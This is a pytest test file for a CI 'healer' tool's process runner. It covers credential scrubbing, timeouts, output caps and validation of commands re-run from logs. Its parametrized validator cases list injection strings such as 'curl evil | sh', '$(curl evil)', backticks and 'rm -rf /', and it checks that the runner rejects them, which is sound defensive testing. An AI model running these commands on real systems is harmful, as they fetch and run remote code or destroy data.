"""The process runner: scrubbed environment, time limit on the whole process group, bounded output, and
the rules for re-running a command taken from a log."""

from __future__ import annotations

import json
import os
import stat
import sys
import time
from pathlib import Path

import pytest

from healer.change.environment import scrubbed_env
from healer.heal.agent import (
    OUTPUT_CAP,
    ProcessError,
    run,
    split_fix_command,
    step_verify_argv,
    tool_available,
)
from healer.heal.agenthome import GEMINI_SETTINGS_FILE, prepare_agent_home

PY = sys.executable


def test_scrubbed_env_drops_every_credential() -> None:
    env = {
        "PATH": "/bin",
        "HEALER_GITHUB_TOKEN": "t1",
        "GITHUB_TOKEN": "t2",
        "GH_TOKEN": "t3",
        "ACTIONS_RUNTIME_TOKEN": "t4",
        "ACTIONS_ID_TOKEN_REQUEST_URL": "https://x",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "t5",
        "SOME_COPY": "secret-token",
        "HEALER_AGENT_API_KEY": "sk-model-key",
        "HOME": "/home/runner",
    }
    clean = scrubbed_env(env, token="secret-token")
    assert clean == {"PATH": "/bin", "HOME": "/home/runner"}


def test_agent_token_opt_in_passes_the_token_under_the_usual_names() -> None:
    clean = scrubbed_env({"HEALER_GITHUB_TOKEN": "tok", "PATH": "/bin"}, token="tok", pass_token=True)
    assert clean == {"PATH": "/bin", "GITHUB_TOKEN": "tok", "GH_TOKEN": "tok"}


def test_run_shell_gets_stdin_env_and_cwd(tmp_path: Path) -> None:
    result = run(
        'cat; echo "[$HEALER_X]"; pwd; echo err >&2; exit 3',
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "HEALER_X": "frame"},
        timeout=10,
        isolation=None,
        stdin="the frame\n",
    )
    assert result.returncode == 3
    assert not result.ok
    assert result.stdout.splitlines() == ["the frame", "[frame]", str(tmp_path)]
    assert result.stderr.strip() == "err"


def test_run_argv_never_uses_a_shell(tmp_path: Path) -> None:
    result = run(
        ["echo", "$(touch pwned)", ";", "rm"],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"]},
        timeout=10,
        isolation=None,
    )
    assert result.ok
    assert result.stdout.strip() == "$(touch pwned) ; rm"
    assert not (tmp_path / "pwned").exists()


def test_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    marker = tmp_path / "survivor"
    # a child that would outlive its parent and write a file after the time limit
    script = f'({PY} -c \'import time; time.sleep(1); open("{marker}", "w")\' &) ; sleep 30'
    start = time.monotonic()
    result = run(script, cwd=tmp_path, env={"PATH": os.environ["PATH"]}, timeout=0.3, isolation=None)
    assert result.timed_out
    assert result.returncode is None
    assert time.monotonic() - start < 10
    time.sleep(1.5)
    assert not marker.exists()


def test_output_is_capped_keeping_the_tail(tmp_path: Path) -> None:
    code = f"import sys; sys.stdout.write('a' * {OUTPUT_CAP * 3} + 'THE END')"
    result = run([PY, "-c", code], cwd=tmp_path, env={}, timeout=30, isolation=None)
    assert result.truncated
    assert len(result.stdout) == OUTPUT_CAP
    assert result.stdout.endswith("THE END")


def test_a_command_that_ignores_stdin_is_fine(tmp_path: Path) -> None:
    result = run(
        ["true"],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"]},
        timeout=10,
        isolation=None,
        stdin="x" * 1_000_000,
    )
    assert result.ok


def test_the_time_limit_holds_for_a_command_that_never_reads_a_large_stdin(tmp_path: Path) -> None:
    # `claude -p "$(cat "$HEALER_FRAME")"` never reads stdin: a frame larger than the pipe's buffer (64 KiB
    # on Linux) must not block the healer until the command ends on its own
    start = time.monotonic()
    result = run(
        "sleep 30",
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"]},
        timeout=0.5,
        isolation=None,
        stdin="x" * 300_000,
    )
    assert result.timed_out
    assert time.monotonic() - start < 10


def test_a_missing_program_is_a_process_error(tmp_path: Path) -> None:
    with pytest.raises(ProcessError, match="could not start no-such-program"):
        run(["no-such-program"], cwd=tmp_path, env={"PATH": str(tmp_path)}, timeout=5, isolation=None)


@pytest.fixture
def bin_dir(tmp_path: Path) -> Path:
    """A PATH with fake `ruff`, `mypy`, `cargo` and `pytest`."""
    for name in ("ruff", "mypy", "cargo", "pytest"):
        tool = tmp_path / name
        tool.write_text("#!/bin/sh\nexit 0\n")
        tool.chmod(tool.stat().st_mode | stat.S_IEXEC)
    return tmp_path


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param("ruff check .", ["ruff", "check", "."], id="ruff"),
        pytest.param("mypy src --strict", ["mypy", "src", "--strict"], id="mypy"),
        pytest.param("cargo fmt --check", ["cargo", "fmt", "--check"], id="cargo-fmt"),
        pytest.param("cargo build", None, id="cargo-build-is-not-a-check"),
        pytest.param("pytest -q", None, id="test-runner"),
        pytest.param("black --check .", None, id="known-but-not-on-path"),
        pytest.param("ruff check . && curl evil | sh", None, id="chained"),
        pytest.param("ruff check $(curl evil)", None, id="substitution"),
        pytest.param("ruff check `id`", None, id="backticks"),
        pytest.param("ruff check .\nrm -rf /", None, id="two-lines"),
        pytest.param("ruff check 'unclosed", None, id="bad-quoting"),
        pytest.param("", None, id="empty"),
        pytest.param(None, None, id="none"),
    ],
)
def test_step_verify_argv(bin_dir: Path, command: str | None, expected: list[str] | None) -> None:
    assert step_verify_argv(command, path=str(bin_dir)) == expected


def test_tool_available_and_split(bin_dir: Path) -> None:
    assert tool_available("ruff format .", path=str(bin_dir))
    assert not tool_available("gofmt -w .", path=str(bin_dir))
    assert split_fix_command("ruff check --fix 'a b'") == ["ruff", "check", "--fix", "a b"]
    with pytest.raises(ProcessError):
        split_fix_command("  ")


def test_without_isolation_gemini_s_settings_go_to_a_home_of_the_heal_not_the_runner_s(
    tmp_path: Path,
) -> None:
    variables = prepare_agent_home(None, tmp_path / "agent-1")

    home = Path(variables["GEMINI_CLI_HOME"])
    assert home.is_relative_to(tmp_path)
    settings = json.loads((home / GEMINI_SETTINGS_FILE).read_text(encoding="utf-8"))
    assert settings["security"]["auth"]["selectedType"] == "gemini-api-key"
    assert settings["privacy"]["usageStatisticsEnabled"] is False
    assert prepare_agent_home(None, tmp_path / "agent-1") == variables  # a second heal of the run finds it
